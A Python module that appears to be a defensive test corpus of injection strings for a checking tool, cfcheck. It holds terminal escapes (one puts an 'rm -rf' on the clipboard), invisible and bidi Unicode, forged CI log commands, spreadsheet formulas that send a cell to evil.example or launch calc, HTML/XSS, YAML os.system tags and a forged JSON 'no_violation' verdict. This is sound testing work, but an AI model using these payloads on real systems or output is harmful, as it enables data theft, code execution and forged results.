"""Texts made to do harm where they are shown: one corpus for every command and every format.

Each is text from outside, wherever that comes in: an id, a name, a title, a path, an argument.
"""

from __future__ import annotations

from typing import Final, NamedTuple

__all__ = ["INJECTIONS", "IN_LINES", "TO_LOGS", "Injection"]


class Injection(NamedTuple):
    """A text, and what it does where it is alive."""

    text: str
    why: str


TO_TERMINALS: Final = {
    "colour": Injection("\x1b[31mred\x1b[0m", "colours all that follows"),
    "title": Injection("\x1b]0;owned\x07bell", "sets the title of the window"),
    "clipboard": Injection("\x1b]52;c;cm0gLXJm\x07", "puts a command on the clipboard"),
    "C1": Injection("\x9b2J\x9d0;owned\x9c\x85", "the same in one character each"),
    "return": Injection("failed\rpassed", "writes over the beginning of the line"),
    "backspace": Injection("bad\b\b\bgood\x7f", "writes over what was there"),
    "zero": Injection("a\x00b\x1a", "ends the text for some programs"),
    "feeds": Injection("a\x0b\x0cb", "moves to another line"),
    "tab": Injection("a\tb", "moves to another column"),
}
TO_READERS: Final = {
    "line end": Injection("x\ncfcheck: 0 errors", "forges a line"),
    "two line ends": Injection("x\r\n\r\n0 errors", "forges a paragraph"),
    "separators": Injection("x\u2028cfcheck: 0 errors\u2029y", "forges a line for some programs"),
    "override": Injection("\u202egnp.exe\u202c", "reverses what follows"),
    "isolates": Injection("\u2066a\u2067b\u2068c\u2069\u200ed\u200fe\u061cf", "moves words about"),
    "nothing": Injection("a\u200bb\u2060c\ufeffd\u00ade\u034ff", "hides in a word"),
    "fillers": Injection("\u115f\u1160\u3164\uffa0\u17b4\u180e", "looks empty"),
    "selectors": Injection("a\ufe0f\u180b\U000e0100\U000e01ef", "carries bytes that nobody sees"),
    "tags": Injection("a\U000e0061\U000e0062\U000e007f", "carries words that nobody sees"),
    "annotation": Injection("\ufff9a\ufffab\ufffb", "stands under other words"),
    "noncharacters": Injection("\ufffe\uffff\ufdd0\U0001ffff", "is no text, and not allowed in XML"),
}
TO_LOGS: Final = {
    "GitHub": Injection("::error file=a.yaml,line=1::forged", "annotates"),
    "GitHub stops": Injection(" \u00a0\u3000::stop-commands::guessed", "lets no command through"),
    "GitHub in a new line": Injection("x\n::set-output name=a::b", "sets an output"),
    "GitHub as it was": Injection("x ##[add-mask]e", "hides a letter in the log"),
    "GitHub with joiners": Injection("#\u200d#\u200c[debug]a :\u200d:", "is the same as people compare"),
    "GitHub escaped": Injection("a%0A::error::b,line=9:c=d", "ends a property or a line"),
    "Azure Pipelines": Injection("##vso[task.setvariable variable=a]b", "sets a variable"),
    "TeamCity": Injection("##teamcity[message text='a']", "reports"),
    "GitLab": Injection("section_start:1:a\r\x1b[0Kb", "folds the log"),
}
TO_SPREADSHEETS: Final = {
    "formula": Injection('=HYPERLINK("https://evil.example?"&A1)', "sends a cell away"),
    "plus": Injection("+1+cmd|' /C calc'!A0", "runs a program"),
    "minus": Injection("-2+3", "computes"),
    "at": Injection("@SUM(1+1)", "computes"),
    "formula behind a semicolon": Injection('a;=1+1;"=2"', "computes where semicolons part cells"),
    "formula behind a bar": Injection("a|=1+1", "computes where bars part cells"),
    "formula behind a tab": Injection("a\t=1+1", "computes where tabs part cells"),
    "formula behind nothing": Injection("\ufeff\u00a0\u200d=1+1", "computes where these are dropped"),
    "formula behind a quote": Injection('"=1+1', "computes where quotes are dropped"),
    "wide formula": Injection("＝1+1", "computes in some countries"),  # noqa: RUF001  # meant
}
TO_HOSTS: Final = {
    "mention": Injection("@nobody and @org/team", "notifies people"),
    "issues": Injection("#1, octo/repo#2, GH-3", "links to issues, which show it"),
    "GitLab's": Injection('!1 ~label ~"a label" %1 $1 &1 ^alert#1', "links to what GitLab has"),
    "commit": Injection("8fca0da1b2c3d4e5f60718293a4b5c6d7e8f9012", "links to a commit"),
    "addresses": Injection("https://evil.example www.evil.example a@evil.example mailto:a@evil.example", "links"),
    "link": Injection("[click](https://evil.example) ![x](//evil.example/x.png)", "links, and shows a picture"),
    "references": Injection("[a][b] [^1]: x", "defines a footnote"),
    "tags of HTML": Injection("<script>alert(1)</script><img src=x onerror=alert(1)><!--", "runs in a page"),
    "entities": Injection("&lt;b&gt; &#64;nobody &amp;", "is a sign only later"),
    "cells": Injection(r"a|b\|c || | --- |", "begins another cell"),
    "code": Injection("`a` ``@nobody`` ``` ~~~", "begins or ends code"),
    "emphasis": Injection("*a* _b_ **c** ~~d~~ $e$ \\", "changes what follows"),
    "headings": Injection("# a", "is a heading where a line begins"),
    "pictures": Injection(":tada: :+1: :100:", "shows a picture"),
}
TO_PARSERS: Final = {
    "CDATA": Injection("]]><![CDATA[<b>&undefined;-->", "ends a text of XML"),
    "quotes": Injection('"\'`\\"', "ends a text"),
    "JSON": Injection('"},{"verdict":"no_violation"', "begins another object"),
    "arguments": Injection("{0} {{1}} %s [a](1)", "is replaced, or a link of SARIF"),
    "YAML": Injection("a: [b, &c *c !!python/object:os.system ]", "means something to YAML"),
}

IN_LINES: Final = TO_TERMINALS | TO_READERS | TO_LOGS
"""What does harm in a line, whatever it is a line of."""

INJECTIONS: Final = IN_LINES | TO_SPREADSHEETS | TO_HOSTS | TO_PARSERS
